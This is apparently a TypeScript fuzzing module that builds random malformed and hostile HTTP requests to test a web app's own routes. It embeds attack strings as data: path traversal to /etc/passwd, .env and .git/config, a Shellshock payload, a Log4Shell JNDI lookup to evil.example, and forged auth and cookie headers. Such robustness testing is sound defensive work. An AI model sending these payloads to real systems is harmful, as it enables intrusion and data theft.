import type { Route } from '../../support/routes.js';
import { bodyOf } from './bodies.js';
import type { Dice } from '../dice.js';
import { numberIn, percent, valueFor, type Draft } from './draft.js';
import { ACTORS, type HttpInput } from './input.js';
import { fieldName, hostileText } from './texts.js';

const OTHER_METHODS = ['HEAD', 'OPTIONS', 'PUT', 'PATCH', 'DELETE', 'POST', 'GET', 'PROPFIND', 'TRACE'];
const ELSEWHERE = [
  '/none',
  '/assets/app.css',
  '/assets/',
  '/assets/../../package.json',
  '/assets/..%2f..%2fpackage.json',
  '/assets/%2e%2e/%2e%2e/etc/passwd',
  '/api/docs',
  '/api/docs/',
  '/api/openapi.json',
  '/api/v1',
  '/api/v2/units',
  '/%',
  '/%zz',
  '/%c0%ae%c0%ae/',
  '/units/%ff',
  '//units',
  '/units/../users',
  '/.env',
  '/.git/config',
  '/favicon.ico',
];

/** Anything at all over one of the routes, or beside them. */
export function hostileRequest(dice: Dice, routes: readonly Route[]): HttpInput {
  const draft: Draft = { numbers: [], mustRefuse: false, parts: [] };
  const route = dice.chance(0.95) ? pickRoute(dice, routes) : null;
  const wanted = dice.chance(0.92) ? (route?.method ?? 'GET') : dice.pick(OTHER_METHODS);
  const path = route === null ? dice.pick(ELSEWHERE) : pathOf(dice, route.path, draft);
  const url = path + queryOf(dice, route !== null, draft);
  // To an address that is too long the server answers before it knows that a body is unwelcome.
  const method = wanted === 'HEAD' && url.length > 8_000 ? 'GET' : wanted;
  const mayHaveBody = !['GET', 'HEAD', 'TRACE'].includes(method) || dice.chance(0.03);
  const { body, headers } = mayHaveBody ? bodyOf(dice, method, draft) : { body: undefined, headers: {} };
  return {
    door: 'http',
    about: `${method} ${route?.path ?? 'elsewhere'} ${[...new Set(draft.parts)].join(', ')}`.trim(),
    method,
    url,
    actor: pickActor(dice, route),
    csrf: dice.weighted({ own: 8, none: 1, wrong: 1 }),
    headers: { ...headers, ...headersOf(dice, draft) },
    body,
    numbers: draft.numbers,
    mustRefuse: draft.mustRefuse && route !== null && method === route.method,
  };
}

/** A password costs a tenth of a second of two cores, and a report in PDF as much. */
const COSTLY = /sign-in$|\/session$|password$|reports\/:file$|^POST \/users$|reset-password/;

function pickRoute(dice: Dice, routes: readonly Route[]): Route {
  const route = dice.pick(routes);
  return COSTLY.test(route.name) && dice.chance(0.7) ? dice.pick(routes) : route;
}

function pickActor(dice: Dice, route: Route | null) {
  if (dice.chance(0.4)) return dice.pick(ACTORS);
  // Behind the first door there is more to break.
  const roles = route?.rule?.who === 'roles' ? route.rule.roles : [];
  return roles.includes('hr') ? 'hr' : roles.includes('admin') ? 'admin' : 'hr';
}

function pathOf(dice: Dice, path: string, draft: Draft): string {
  return path.replace(/:(\w+)/g, (_, name: string) => {
    const value = name === 'id' && dice.chance(0.2) ? '{import}' : valueFor(dice, name, draft, true);
    if (value === '{import}' || value === 'latest') return '{import}';
    // An empty segment or one of dots is another path.
    const encoded = percent(value);
    return encoded === '' || /^\.+$/.test(encoded) ? '1' : encoded;
  });
}

function queryOf(dice: Dice, isRead: boolean, draft: Draft): string {
  if (dice.chance(0.6)) return '';
  const pairs = dice.times(1, dice.chance(0.02) ? 200 : 4, () => {
    const name = fieldName(dice);
    return `${percent(name)}=${percent(valueFor(dice, name, draft, isRead))}`;
  });
  const wild = dice.chance(0.05)
    ? `&${dice.pick(['%', '%zz', '=', '&&&', '%00=%00', '?', '#x', '%ff=%fe'])}`
    : '';
  return `?${pairs.join('&')}${wild}`.replaceAll('#', '%23');
}

const HEADERS = [
  'user-agent',
  'referer',
  'origin',
  'x-request-id',
  'x-forwarded-host',
  'x-forwarded-proto',
  'forwarded',
  'accept',
  'accept-language',
  'accept-encoding',
  'if-none-match',
  'if-modified-since',
  'range',
  'sec-fetch-site',
  'authorization',
  'cookie',
  'x-csrf-token',
  'x-http-method-override',
  'content-encoding',
  'expect-ct',
  'host',
];
const HEADER_VALUES = [
  'cross-site',
  'Bearer mnc_' + 'A'.repeat(43),
  'Bearer ',
  'Basic YWRtaW46YWRtaW4=',
  'session=',
  'session=' + 'A'.repeat(43),
  'session=a; session=b; __proto__=c',
  'a=%',
  'bytes=0-999999999,-1',
  'DELETE',
  'gzip',
  '*/*;q=9',
  'evil.example',
  'https',
  'x'.repeat(4000),
  '() { :; }; /bin/id',
  '${jndi:ldap://evil.example/a}',
];

function headersOf(dice: Dice, draft: Draft): Record<string, string> {
  if (dice.chance(0.75)) return {};
  return Object.fromEntries(
    dice.times(1, dice.chance(0.03) ? 60 : 3, () => {
      const name = dice.pick(HEADERS);
      const value = dice.chance(0.5)
        ? dice.pick(HEADER_VALUES)
        : dice.chance(0.3)
          ? numberIn(dice, draft, false)
          : hostileText(dice).slice(0, 500);
      draft.parts.push(`header ${name}`);
      return [name, headerValue(value)];
    }),
  );
}

/** What a client can send at all: bytes, without those that end the line. */
function headerValue(text: string): string {
  return Buffer.from(text, 'utf8')
    .toString('latin1')
    .replace(/[^\t\x20-\x7e\x80-\xff]/g, '');
}
